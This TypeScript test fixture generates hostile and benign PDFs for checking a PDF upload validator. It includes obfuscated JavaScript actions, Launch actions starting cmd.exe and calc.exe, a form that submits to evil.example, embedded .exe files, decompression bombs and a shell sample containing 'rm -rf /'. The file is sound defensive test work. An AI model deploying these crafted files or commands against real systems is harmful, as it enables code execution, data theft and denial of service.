import { createHash } from 'node:crypto';
import { constants, deflateRawSync, deflateSync } from 'node:zlib';
import { assemble, makePdf } from '../seed/make-pdf.ts';

/** What the answer to an upload says of the file. */
export type Expected =
  'taken' | 'not a PDF' | 'empty' | 'locked' | 'script' | 'acts' | 'attachment' | 'form' | 'damaged' | 'heavy';

const ordinary = makePdf('Light', [
  '# Light',
  'Light travels in straight lines.',
  '',
  'It bends where one clear thing meets another.',
]);

interface Parts {
  /** Members of the catalog, of the only page, and objects from number 5 on. */
  catalog?: string;
  page?: string;
  objects?: string[];
  trailer?: string;
}

const pdf = ({ catalog = '', page = '', objects = [], trailer = '' }: Parts): Buffer =>
  assemble(
    [
      `<< /Type /Catalog /Pages 2 0 R ${catalog} >>`,
      '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
      `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 300] ${page} >>`,
      'null',
      ...objects,
    ],
    `/Root 1 0 R ${trailer}`,
  );

const stream = (dictionary: string, content: Buffer) =>
  `<< ${dictionary} /Length ${content.length} >>\nstream\n${content.toString('latin1')}\nendstream`;

/** Objects that lie compressed in another, as most programs write them today. */
function objectStream(objects: Record<number, string>, type = '/Type /ObjStm '): string {
  const texts = Object.values(objects);
  let place = 0;
  const places = Object.keys(objects).map((number, index) => {
    const at = place;
    place += (texts[index] as string).length + 1;
    return `${number} ${at}`;
  });
  const head = `${places.join(' ')} `;
  const content = deflateSync(Buffer.from(head + texts.join(' '), 'latin1'));
  return stream(`${type}/N ${texts.length} /First ${head.length} /Filter /FlateDecode`, content);
}

const link = (action: string) => `/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << ${action} >> >>]`;
const text = (value: string) => Buffer.from(value, 'latin1');
const js = '/S /JavaScript /JS (app.alert\\(1\\))';

function rc4(key: Buffer, data: Buffer): Buffer {
  const state = Array.from({ length: 256 }, (_, index) => index);
  const swap = (a: number, b: number) => ([state[a], state[b]] = [state[b] as number, state[a] as number]);
  for (let i = 0, j = 0; i < 256; i++)
    swap(i, (j = (j + (state[i] as number) + (key[i % key.length] as number)) & 255));
  let [i, j] = [0, 0];
  return data.map((byte) => {
    i = (i + 1) & 255;
    j = (j + (state[i] as number)) & 255;
    swap(i, j);
    return byte ^ (state[((state[i] as number) + (state[j] as number)) & 255] as number);
  }) as Buffer;
}

/** Opens without a password, and forbids its readers to print. */
function lockedForPrinting(): Buffer {
  const padding = Buffer.from('28bf4e5e4e758a4164004e56fffa01082e2e00b6d0683e802f0ca9fe6453697a', 'hex');
  const owner = Buffer.alloc(32, 7);
  const permissions = Buffer.alloc(4);
  permissions.writeInt32LE(-64);
  const id = Buffer.alloc(16, 9);
  const key = createHash('md5')
    .update(Buffer.concat([padding, owner, permissions, id]))
    .digest()
    .subarray(0, 5);
  const user = rc4(key, padding);
  const dictionary = `<< /Filter /Standard /V 1 /R 2 /O <${owner.toString('hex')}> /U <${user.toString('hex')}> /P -64 >>`;
  return pdf({
    objects: [dictionary],
    trailer: `/Encrypt 5 0 R /ID [<${id.toString('hex')}> <${id.toString('hex')}>]`,
  });
}

const locked = (dictionary: string) =>
  pdf({ objects: [`<< /Filter /Standard ${dictionary} >>`], trailer: '/Encrypt 5 0 R /ID [<00> <00>]' });
const junk = '<'.concat('5a'.repeat(32), '>');

/** An earlier state of the file goes on lying in front of what was added to it. */
const withEarlierScript = () => {
  const first = pdf({ catalog: `/OpenAction << ${js} >>` });
  const place = first.length;
  const added = `1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n`;
  const table = `xref\n1 1\n${String(place).padStart(10, '0')} 00000 n \n`;
  const start = /startxref\n(\d+)/.exec(first.toString('latin1'))?.[1];
  const tail = `trailer\n<< /Size 5 /Root 1 0 R /Prev ${start} >>\nstartxref\n${place + added.length}\n%%EOF\n`;
  return Buffer.concat([first, text(added + table + tail)]);
};

const zeros = (megabytes: number) => Buffer.alloc(megabytes * 1024 * 1024);
/** Compressed zeros, by repeating one compressed piece: a second of work less than compressing them all. */
const unfolding = (gigabytes: number) => {
  const piece = deflateRawSync(zeros(16), { finishFlush: constants.Z_FULL_FLUSH });
  const pieces = Array.from({ length: gigabytes * 64 }, () => piece);
  return deflateSync(Buffer.concat([Buffer.from('7801', 'hex'), ...pieces, deflateRawSync(Buffer.alloc(1))]));
};

const withPlaces = (places: Buffer, filters: string) => {
  const objects = pdf({}).toString('latin1').split('xref\n')[0] as string;
  const table = `9 0 obj\n${stream(`/Type /XRef /Size 900000000 /W [1 2 1] /Root 1 0 R /Filter [${filters}]`, places)}\nendobj\n`;
  return text(`${objects}${table}startxref\n${objects.length}\n%%EOF`);
};

const begins = (hex: string) => Buffer.concat([Buffer.from(hex, 'hex'), Buffer.alloc(2000, 1)]);

/** Files as people and attackers send them, by what they are, and what is to be said of each. */
export const hostilePdfs: [what: string, bytes: Buffer, expected: Expected][] = [
  ['an ordinary PDF', ordinary, 'taken'],
  ['a PDF with a byte order mark in front', Buffer.concat([Buffer.from('efbbbf', 'hex'), ordinary]), 'taken'],
  ['a PDF with mail text behind', Buffer.concat([ordinary, text('\r\n--\r\nSent from my phone\r\n')]), 'taken'],
  ['a PDF that opens at a page', pdf({ catalog: '/OpenAction [3 0 R /Fit]' }), 'taken'],
  [
    'a PDF with a link to a page about JavaScript',
    pdf({ page: link('/S /URI /URI (https://example.com/Web/JavaScript)') }),
    'taken',
  ],
  [
    'a PDF whose text speaks of /JavaScript and /Launch',
    makePdf('On PDF', ['The names /JavaScript and /Launch and /EmbeddedFile are words.']),
    'taken',
  ],
  [
    'a PDF whose table of places is wrong',
    text(ordinary.toString('latin1').replace(/startxref\n\d+/, 'startxref\n7')),
    'taken',
  ],
  ['a PDF with compressed objects', pdf({ objects: [objectStream({ 8: '<< /Title (Light) >>' })] }), 'taken'],

  ['nothing', Buffer.alloc(0), 'empty'],
  ['text', text('Chapter 1. Light travels in straight lines.'), 'not a PDF'],
  ['one letter', text('%'), 'not a PDF'],
  ['a page of the web', text('<!doctype html><script>alert(1)</script>'), 'not a PDF'],
  [
    'a page of the web with a PDF in it',
    Buffer.concat([text('<!doctype html><script>alert(1)</script>'), ordinary]),
    'not a PDF',
  ],
  ['a picture in SVG', text('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'), 'not a PDF'],
  ['a PNG', begins('89504e470d0a1a0a'), 'not a PDF'],
  ['a JPEG', begins('ffd8ffe000104a464946'), 'not a PDF'],
  ['a GIF', text('GIF89a'.padEnd(100)), 'not a PDF'],
  ['a Word document', begins('504b0304'), 'not a PDF'],
  ['an old Word document', begins('d0cf11e0a1b11ae1'), 'not a PDF'],
  ['an archive with a PDF behind', Buffer.concat([begins('504b0304'), ordinary]), 'not a PDF'],
  ['a program for Windows', begins('4d5a9000'), 'not a PDF'],
  ['a program for Linux', begins('7f454c46'), 'not a PDF'],
  ['a shell script', text('#!/bin/sh\nrm -rf /\n# %PDF-1.7'), 'not a PDF'],
  ['PostScript', text('%!PS-Adobe-3.0\n%PDF-1.7'), 'not a PDF'],
  ['rich text', text('{\\rtf1\\ansi hello}'), 'not a PDF'],
  ['JSON', text('{"title":"%PDF-1.7"}'), 'not a PDF'],
  ['zeros', zeros(1), 'not a PDF'],
  ['a PDF in UTF-16', Buffer.from(`\ufeff${ordinary.toString('latin1')}`, 'utf16le'), 'not a PDF'],
  ['a PDF behind a kilobyte of spaces', Buffer.concat([text(' '.repeat(1024)), ordinary]), 'not a PDF'],
  ['a PDF in small letters', text(ordinary.toString('latin1').replace('%PDF', '%pdf')), 'not a PDF'],

  ['only the first line of a PDF', text('%PDF-1.7\n'), 'damaged'],
  [
    'the first line and noise',
    Buffer.concat([text('%PDF-1.7\n'), createHash('shake256', { outputLength: 100_000 }).update('noise').digest()]),
    'damaged',
  ],
  ['the first line and zeros', Buffer.concat([text('%PDF-1.7\n'), zeros(1)]), 'damaged'],
  ['a first line and text', text('%PDF-1.7\nNot really.'), 'damaged'],
  ['the first half of a PDF', ordinary.subarray(0, 200), 'damaged'],
  ['a PDF without a catalog', assemble(['<< /Type /Pages /Kids [] /Count 0 >>'], '/Root 9 0 R'), 'damaged'],
  [
    'a PDF without pages',
    assemble(['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids [] /Count 0 >>'], '/Root 1 0 R'),
    'damaged',
  ],
  [
    'a PDF whose page is a number',
    assemble(['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids [3 0 R] /Count 1 >>', '17'], '/Root 1 0 R'),
    'damaged',
  ],
  [
    'a PDF whose pages hold themselves',
    assemble(['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids [2 0 R] /Count 1 >>'], '/Root 1 0 R'),
    'damaged',
  ],
  [
    'a PDF that claims a billion pages',
    assemble(
      [
        '<< /Type /Catalog /Pages 2 0 R >>',
        '<< /Type /Pages /Kids [3 0 R] /Count 1000000000 >>',
        '<< /Type /Page /Parent 2 0 R >>',
      ],
      '/Root 1 0 R',
    ),
    'taken',
  ],
  [
    'a PDF that claims less than no pages',
    assemble(
      [
        '<< /Type /Catalog /Pages 2 0 R >>',
        '<< /Type /Pages /Kids [3 0 R] /Count -5 >>',
        '<< /Type /Page /Parent 2 0 R >>',
      ],
      '/Root 1 0 R',
    ),
    'damaged',
  ],
  ['a PDF whose catalog is itself its pages', assemble(['<< /Type /Catalog /Pages 1 0 R >>'], '/Root 1 0 R'), 'taken'],
  ['a PDF with a hundred thousand brackets', pdf({ page: `/Annots ${'['.repeat(100_000)}` }), 'damaged'],
  ['a PDF with a hundred thousand dictionaries in each other', pdf({ catalog: '/X <<'.repeat(100_000) }), 'damaged'],
  [
    'a PDF whose table of places leads to itself',
    text(`%PDF-1.7\nxref\n0 1\n0000000000 65535 f \ntrailer\n<< /Size 1 /Root 1 0 R /Prev 9 >>\nstartxref\n9\n%%EOF`),
    'damaged',
  ],
  [
    'a kilobyte of compressed objects that unfolds to 200 MB',
    pdf({ objects: [stream('/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode', deflateSync(zeros(200)))] }),
    'heavy',
  ],
  ['a table of places that unfolds to 2 GB', withPlaces(unfolding(2), '/FlateDecode /FlateDecode'), 'heavy'],
  [
    'a PDF of four thousand pages',
    assemble(
      [
        '<< /Type /Catalog /Pages 2 0 R >>',
        `<< /Type /Pages /Kids [${'3 0 R '.repeat(4000)}] /Count 4000 >>`,
        '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >>',
      ],
      '/Root 1 0 R',
    ),
    'heavy',
  ],

  ['a PDF with a password', locked(`/V 1 /R 2 /O ${junk} /U ${junk} /P -4`), 'locked'],
  ['a PDF with a password, 128 bits', locked(`/V 2 /R 3 /Length 128 /O ${junk} /U ${junk} /P -4`), 'locked'],
  ['a PDF that may not be printed', lockedForPrinting(), 'locked'],

  ['a script at opening', pdf({ catalog: `/OpenAction << ${js} >>` }), 'script'],
  ['a script of the document', pdf({ catalog: `/Names << /JavaScript << /Names [(a) << ${js} >>] >> >>` }), 'script'],
  ['a script when a page is shown', pdf({ page: `/AA << /O << ${js} >> >>` }), 'script'],
  ['a script when the document is closed', pdf({ catalog: `/AA << /WC << ${js} >> >>` }), 'script'],
  ['a script behind a link', pdf({ page: link(js) }), 'script'],
  [
    'a script behind a harmless link',
    pdf({ page: link(`/S /URI /URI (https://example.com) /Next << ${js} >>`) }),
    'script',
  ],
  [
    'a script in a field of a form',
    pdf({
      catalog: '/AcroForm << /Fields [5 0 R] >>',
      page: '/Annots [5 0 R]',
      objects: [`<< /Type /Annot /Subtype /Widget /FT /Tx /T (a) /Rect [0 0 9 9] /AA << /K << ${js} >> >> >>`],
    }),
    'script',
  ],
  [
    'a script in the outline',
    pdf({
      catalog: '/Outlines 5 0 R',
      objects: ['<< /First 6 0 R /Last 6 0 R >>', `<< /Title (a) /Parent 5 0 R /A << ${js} >> >>`],
    }),
    'script',
  ],
  [
    'a script with a spelled-out name',
    pdf({ catalog: '/OpenAction << /#53 /J#61va#53cript /#4A#53 (app.alert\\(1\\)) >>' }),
    'script',
  ],
  [
    'a script with a comment in between',
    pdf({ catalog: '/OpenAction << /S%x\n/JavaScript /JS%y\r(app.alert\\(1\\)) >>' }),
    'script',
  ],
  [
    'a script with a name kept elsewhere',
    pdf({ catalog: '/OpenAction << /S 5 0 R /JS 6 0 R >>', objects: ['/JavaScript', '(app.alert\\(1\\))'] }),
    'script',
  ],
  [
    'a script in a stream',
    pdf({ catalog: '/OpenAction << /S /JavaScript /JS 5 0 R >>', objects: [stream('', text('app.alert(1)'))] }),
    'script',
  ],
  ['a script among compressed objects', pdf({ objects: [objectStream({ 8: `<< ${js} >>` })] }), 'script'],
  [
    'a script among compressed objects that do not say what they are',
    pdf({ objects: [objectStream({ 8: `<< ${js} >>` }, '')] }),
    'script',
  ],
  ['a script that nothing refers to', pdf({ objects: [`<< ${js} >>`] }), 'script'],
  ['a script in an earlier state of the file', withEarlierScript(), 'script'],
  [
    'a script that plays with a film',
    pdf({ catalog: '/OpenAction << /S /Rendition /JS (app.alert\\(1\\)) >>' }),
    'script',
  ],

  ['a program started at opening', pdf({ catalog: '/OpenAction << /S /Launch /F (cmd.exe) >>' }), 'acts'],
  ['a program started by a link', pdf({ page: link('/S /Launch /Win << /F (calc.exe) >>') }), 'acts'],
  ['a program with a spelled-out name', pdf({ page: link('/S /L#61unch /F (calc.exe)') }), 'acts'],
  ['a form that sends what is filled in', pdf({ page: link('/S /SubmitForm /F (https://evil.example)') }), 'acts'],
  ['a form that fetches its content', pdf({ page: link('/S /ImportData /F (data.fdf)') }), 'acts'],
  ['a way into another file', pdf({ page: link('/S /GoToE /T << /R /C /N (a.pdf) >>') }), 'acts'],

  [
    'a file inside',
    pdf({
      catalog: '/Names << /EmbeddedFiles << /Names [(a) << /Type /Filespec /F (a.exe) /EF << /F 5 0 R >> >>] >> >>',
      objects: [stream('/Type /EmbeddedFile', text('MZ'))],
    }),
    'attachment',
  ],
  [
    'a file pinned to a page',
    pdf({
      page: '/Annots [<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 9 9] /FS << /F (a.exe) /EF << /F 5 0 R >> >> >>]',
      objects: [stream('', text('MZ'))],
    }),
    'attachment',
  ],
  ['a film', pdf({ page: '/Annots [<< /Type /Annot /Subtype /RichMedia /Rect [0 0 9 9] >>]' }), 'attachment'],
  [
    'a file among compressed objects',
    pdf({ objects: [objectStream({ 8: '<< /F (a.exe) /EF << /F 9 0 R >> >>' })] }),
    'attachment',
  ],

  [
    'a form of the kind that only one program shows',
    pdf({ catalog: '/AcroForm << /Fields [] /XFA 5 0 R >>', objects: [stream('', text('<xdp:xdp/>'))] }),
    'form',
  ],
];
